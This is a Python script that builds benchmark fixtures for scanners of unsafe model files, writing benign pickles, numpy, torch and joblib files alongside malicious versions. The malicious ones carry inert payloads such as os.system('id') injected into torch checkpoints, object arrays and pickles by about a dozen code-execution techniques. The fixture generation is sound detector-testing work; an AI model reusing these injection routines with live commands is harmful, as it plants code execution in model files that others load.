"""Write the benchmark fixtures into bench/.cache/fixtures (generated, never committed).

    <project venv>/bin/python bench/make_fixtures.py [--quick] [--sizes 200M,2G] [--bytes-size 1.5G]

Needs torch and numpy (the project's virtualenv has both). Every malicious payload is inert
(`id`, `echo`, 127.0.0.1, example.invalid), and nothing here ever loads a pickle: payloads are
written as opcodes or by pickling objects (which runs nothing), and checkpoints are changed by
copying bytes.

  big/tiny-benign.pkl                a 31-byte pickle: each tool's start-up cost
  big/bytes-<S>.pkl                  a pickle holding one S-byte BINBYTES8 string followed by
                                     os.system('id'); streamed to disk opcode by opcode
  big/torch-zip-<S>.pt               torch.save of a state dict of zero tensors (zip format,
                                     stored members), total tensor data S
  big/torch-zip-<S>-malicious.pt     the same zip, rebuilt member by member with a data.pkl
                                     that first calls os.system('id')
  big/torch-legacy-<S>.pt            the same state dict, legacy (non-zip) format
  big/torch-legacy-<S>-malicious.pt  the same, with the payload injected into its object pickle
  mixed/                             ~200 small files, benign and malicious (labels in
                                     mixed-labels.jsonl beside the folder)
  manifest.json                      what was written, with sizes and labels
"""
from __future__ import annotations

import argparse
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import sys
import zipfile
from pathlib import Path

BENCH = Path(__file__).resolve().parent
FIXTURES = BENCH / ".cache" / "fixtures"
CHUNK = 1 << 20

QUICK_SIZES = ("20M", "200M")
FULL_SIZES = ("200M", "2G")
QUICK_BYTES = "200M"
FULL_BYTES = "1.5G"

# The inert payload every big malicious fixture carries: os.system('id'), protocol 2 opcodes.
PAYLOAD_P2 = b"cos\nsystem\nX\x02\x00\x00\x00id\x85R0"  # GLOBAL, BINUNICODE, TUPLE1, REDUCE, POP


def parse_size(text: str) -> int:
    units = {"K": 10**3, "M": 10**6, "G": 10**9}
    text = text.strip().upper().rstrip("B")
    if text and text[-1] in units:
        return int(float(text[:-1]) * units[text[-1]])
    return int(text)


def label_size(n: int) -> str:
    if n >= 10**9:
        return f"{n / 10**9:g}G"
    if n >= 10**6:
        return f"{n / 10**6:g}M"
    return f"{n}B"


# ---------------------------------------------------------------- (a) the big byte string

def write_bytes_pickle(path: Path, size: int) -> None:
    """[<size zero bytes>, os.system('id')] as a protocol 4 pickle, written without holding
    the string in memory: BINBYTES8 takes an 8-byte length, then the bytes follow."""
    zeros = bytes(CHUNK)
    with open(path, "wb") as out:
        out.write(b"\x80\x04(")  # PROTO 4, MARK
        out.write(b"\x8e" + struct.pack("<Q", size))  # BINBYTES8
        left = size
        while left:
            step = min(left, CHUNK)
            out.write(zeros[:step])
            left -= step
        out.write(b"\x8c\x02os\x8c\x06system\x93")  # SHORT_BINUNICODE x2, STACK_GLOBAL
        out.write(b"\x8c\x02id\x85R")  # 'id', TUPLE1, REDUCE
        out.write(b"l.")  # LIST (from MARK), STOP


# ---------------------------------------------------------------- (b, c) big checkpoints

def state_dict(total: int, pieces: int = 8):
    import torch

    per = max(1, total // pieces // 4)  # float32 elements per tensor
    return {f"layers.{i}.weight": torch.zeros(per, dtype=torch.float32) for i in range(pieces)}


def write_torch(path: Path, total: int, legacy: bool) -> None:
    import torch

    weights = state_dict(total)
    torch.save(weights, path, _use_new_zipfile_serialization=not legacy)
    del weights


def inject_payload(pickle_bytes: bytes) -> bytes:
    """Prefix a protocol-2 pickle's program with os.system('id'); the rest runs unchanged."""
    if pickle_bytes[:1] == b"\x80":
        return pickle_bytes[:2] + PAYLOAD_P2 + pickle_bytes[2:]
    return PAYLOAD_P2 + pickle_bytes


def rebuild_zip_with_payload(source: Path, target: Path) -> None:
    """Copy a torch zip member by member (large ones streamed), swapping in a bad data.pkl."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            member = zipfile.ZipInfo(info.filename, info.date_time)
            member.compress_type = zipfile.ZIP_STORED
            if info.filename.endswith("/data.pkl") or info.filename == "data.pkl":
                zout.writestr(member, inject_payload(zin.read(info)))
                continue
            with zin.open(info) as src, zout.open(member, "w", force_zip64=info.file_size > 1 << 30) as dst:
                shutil.copyfileobj(src, dst, CHUNK)


def pickle_ends(head: bytes, count: int) -> list[int]:
    """End offsets of the first `count` pickles in head (static disassembly; nothing runs)."""
    stream = io.BytesIO(head)
    ends = []
    for _ in range(count):
        for _op, _arg, _pos in pickletools.genops(stream):
            pass
        ends.append(stream.tell())
    return ends


def rebuild_legacy_with_payload(source: Path, target: Path) -> None:
    """Legacy torch files are pickles back to back (magic, protocol, sys info, the object,
    storage keys) and then raw storages: inject into the object pickle, copy the rest."""
    with open(source, "rb") as src:
        head = src.read(16 * CHUNK)
        ends = pickle_ends(head, 4)
        with open(target, "wb") as out:
            out.write(head[:ends[2]])
            out.write(inject_payload(head[ends[2]:ends[3]]))
            src.seek(ends[3])
            shutil.copyfileobj(src, out, CHUNK)


# ---------------------------------------------------------------- (d) the mixed corpus

class Call:
    """Pickles as `func(*args)`; pickling it runs nothing."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):  # pickle wants the callable of a reduce to look callable
        raise RuntimeError("never called")


def benign_objects(rng):
    import numpy as np

    for i in range(30):
        cfg = {"name": f"model-{i}", "hidden": int(rng.integers(64, 4096)), "dropout": float(rng.random()),
               "layers": [int(x) for x in rng.integers(1, 100, size=int(rng.integers(1, 40)))],
               "labels": {str(j): f"class_{j}" for j in range(int(rng.integers(2, 50)))}, "tied": bool(i % 2)}
        yield f"config_{i:03d}.pkl", pickle.dumps(cfg, protocol=i % 6), "dict"
    for i in range(20):
        arr = rng.standard_normal(int(rng.integers(10, 20000))).astype(np.float32)
        yield f"array_{i:03d}.pkl", pickle.dumps(arr, protocol=2 + i % 4), "numpy_pickle"
    for i in range(15):
        buffer = io.BytesIO()
        np.save(buffer, rng.standard_normal((int(rng.integers(2, 200)), 16)))
        yield f"embedding_{i:03d}.npy", buffer.getvalue(), "npy"
    for i in range(10):
        buffer = io.BytesIO()
        np.savez(buffer, w=rng.standard_normal(100), b=np.zeros(10))
        yield f"weights_{i:03d}.npz", buffer.getvalue(), "npz"
    for i in range(20):
        yield f"checkpoint_{i:03d}.pt", torch_bytes(small_state(rng, i), legacy=False), "torch_zip"
    for i in range(10):
        yield f"legacy_{i:03d}.pth", torch_bytes(small_state(rng, i), legacy=True), "torch_legacy"
    for i in range(10):
        import joblib

        buffer = io.BytesIO()
        joblib.dump({"coef": rng.standard_normal(50), "step": i}, buffer)
        yield f"estimator_{i:03d}.joblib", buffer.getvalue(), "joblib"
    for i in range(5):
        from sklearn.linear_model import LogisticRegression

        x = rng.standard_normal((40, 4))
        model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
        yield f"sklearn_{i:03d}.pkl", pickle.dumps(model, protocol=4), "sklearn"


def small_state(rng, i):
    import torch

    width = 8 + i * 4
    return {"fc.weight": torch.from_numpy(rng.standard_normal((width, width)).astype("float32")),
            "fc.bias": torch.zeros(width), "step": torch.tensor(i)}


def torch_bytes(obj, legacy: bool) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def malicious_objects(rng):
    import builtins
    import os
    import runpy
    import socket
    import subprocess
    import webbrowser

    techniques = [
        ("os_system", lambda: Call(os.system, "id")),
        ("os_system_echo", lambda: Call(os.system, "echo bench")),
        ("subprocess_popen", lambda: Call(subprocess.Popen, ["echo", "bench"])),
        ("subprocess_check_output", lambda: Call(subprocess.check_output, ["id"])),
        ("builtins_exec", lambda: Call(builtins.exec, "import os; os.system('id')")),
        ("builtins_eval", lambda: Call(builtins.eval, "__import__('os').system('id')")),
        ("getattr_import_chain", lambda: Call(Call(builtins.getattr, Call(builtins.__import__, "os"), "system"), "id")),
        ("socket_connect", lambda: Call(socket.create_connection, ("127.0.0.1", 9))),
        ("webbrowser_open", lambda: Call(webbrowser.open, "http://example.invalid/")),
        ("runpy_run_code", lambda: Call(runpy._run_code, "print('bench')", {})),
        ("nested_pickle_loads", lambda: Call(pickle.loads, pickle.dumps(Call(os.system, "id"), protocol=2))),
    ]
    n = 0
    for name, make in techniques:
        for protocol in (0, 2, 4, 5):
            yield f"bad_{name}_p{protocol}.pkl", pickle.dumps(make(), protocol=protocol), name
            n += 1
        # hidden inside an otherwise plain model dict
        wrapped = {"weights": [float(x) for x in rng.standard_normal(32)], "init": make()}
        yield f"bad_{name}_in_dict.pkl", pickle.dumps(wrapped, protocol=4), name + "_in_dict"
        yield f"bad_{name}.bin", pickle.dumps(make(), protocol=2), name
    for i in range(6):
        yield f"bad_torch_zip_{i}.pt", zip_bytes_with_payload(torch_bytes(small_state(rng, i), legacy=False)), "torch_zip_data_pkl"
    for i in range(4):
        raw = torch_bytes(small_state(rng, i), legacy=True)
        ends = pickle_ends(raw, 4)
        yield f"bad_torch_legacy_{i}.pth", raw[:ends[2]] + inject_payload(raw[ends[2]:ends[3]]) + raw[ends[3]:], "torch_legacy_object_pickle"
    for i in range(4):
        yield f"bad_object_array_{i}.npy", npy_object_array(pickle.dumps([1, Call(os.system, "id")], protocol=3)), "npy_object_array"
    for i in range(4):
        import joblib

        buffer = io.BytesIO()
        joblib.dump({"coef": [0.0] * 8, "hook": Call(os.system, "id")}, buffer)
        yield f"bad_estimator_{i}.joblib", buffer.getvalue(), "joblib_reduce"


def zip_bytes_with_payload(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            if info.filename.endswith("/data.pkl"):
                body = inject_payload(body)
            zout.writestr(zipfile.ZipInfo(info.filename, info.date_time), body)
    return out.getvalue()


def npy_object_array(pickle_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (2,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + pickle_bytes


def write_mixed(folder: Path, labels_file: Path) -> list[dict]:
    import numpy as np

    rng = np.random.default_rng(1234)
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    rows = []
    for label, items in (("benign", benign_objects(rng)), ("malicious", malicious_objects(rng))):
        for name, data, technique in items:
            (folder / name).write_bytes(data)
            rows.append({"path": name, "label": label, "technique": technique, "size": len(data)})
    with open(labels_file, "w") as out:
        for row in rows:
            out.write(json.dumps(row) + "\n")
    return rows


# ---------------------------------------------------------------- driver

def build(sizes: list[int], bytes_size: int, mixed: bool = True, force: bool = False) -> dict:
    big = FIXTURES / "big"
    big.mkdir(parents=True, exist_ok=True)
    manifest_file = FIXTURES / "manifest.json"
    old = json.loads(manifest_file.read_text()) if manifest_file.exists() else {}
    entries = []

    def make(name, kind, nominal, label, writer):
        path = big / name
        known = {e["name"]: e for e in old.get("big", [])}.get(name)
        if force or not path.exists() or not known or known["bytes"] != path.stat().st_size:
            print(f"writing {path.relative_to(BENCH)}", file=sys.stderr, flush=True)
            tmp = path.with_suffix(path.suffix + ".part")
            writer(tmp)
            os.replace(tmp, path)
        entries.append({"name": name, "path": str(path), "kind": kind, "nominal": nominal,
                        "bytes": path.stat().st_size, "label": label})

    make("tiny-benign.pkl", "baseline", "31B", "benign",
         lambda p: p.write_bytes(pickle.dumps({"lr": 0.001, "epochs": 3}, protocol=4)))
    tag = label_size(bytes_size)
    make(f"bytes-{tag}.pkl", "bytes_pickle", tag, "malicious", lambda p: write_bytes_pickle(p, bytes_size))
    for size in sizes:
        tag = label_size(size)
        zip_clean = big / f"torch-zip-{tag}.pt"
        legacy_clean = big / f"torch-legacy-{tag}.pt"
        make(zip_clean.name, "torch_zip", tag, "benign", lambda p: write_torch(p, size, legacy=False))
        make(f"torch-zip-{tag}-malicious.pt", "torch_zip", tag, "malicious",
             lambda p: rebuild_zip_with_payload(zip_clean, p))
        make(legacy_clean.name, "torch_legacy", tag, "benign", lambda p: write_torch(p, size, legacy=True))
        make(f"torch-legacy-{tag}-malicious.pt", "torch_legacy", tag, "malicious",
             lambda p: rebuild_legacy_with_payload(legacy_clean, p))
    manifest = {"big": entries, "mixed": old.get("mixed")}
    wanted = {e["name"] for e in entries}
    for stale in big.iterdir():  # big files from other sizes take disk space: remove them
        if stale.name not in wanted:
            print(f"removing {stale.relative_to(BENCH)}", file=sys.stderr)
            stale.unlink()
    if mixed:
        rows = write_mixed(FIXTURES / "mixed", FIXTURES / "mixed-labels.jsonl")
        manifest["mixed"] = {"path": str(FIXTURES / "mixed"), "labels": str(FIXTURES / "mixed-labels.jsonl"),
                             "files": len(rows), "bytes": sum(r["size"] for r in rows),
                             "malicious": sum(r["label"] == "malicious" for r in rows)}
    manifest_file.write_text(json.dumps(manifest, indent=2))
    return manifest


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--quick", action="store_true", help=f"sizes {','.join(QUICK_SIZES)} and a {QUICK_BYTES} byte string")
    parser.add_argument("--sizes", help=f"checkpoint sizes, comma separated (default {','.join(FULL_SIZES)})")
    parser.add_argument("--bytes-size", help=f"size of the big byte string (default {FULL_BYTES})")
    parser.add_argument("--no-mixed", action="store_true", help="do not (re)write the mixed corpus")
    parser.add_argument("--force", action="store_true", help="rewrite fixtures that already exist")
    args = parser.parse_args(argv)
    sizes = args.sizes or ",".join(QUICK_SIZES if args.quick else FULL_SIZES)
    bytes_size = args.bytes_size or (QUICK_BYTES if args.quick else FULL_BYTES)
    manifest = build([parse_size(s) for s in sizes.split(",")], parse_size(bytes_size),
                     mixed=not args.no_mixed, force=args.force)
    for entry in manifest["big"]:
        print(f"{entry['bytes'] / 1e6:>10.1f} MB  {entry['label']:<9}  {entry['name']}")
    if manifest.get("mixed"):
        m = manifest["mixed"]
        print(f"mixed corpus: {m['files']} files ({m['malicious']} malicious), {m['bytes'] / 1e6:.1f} MB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
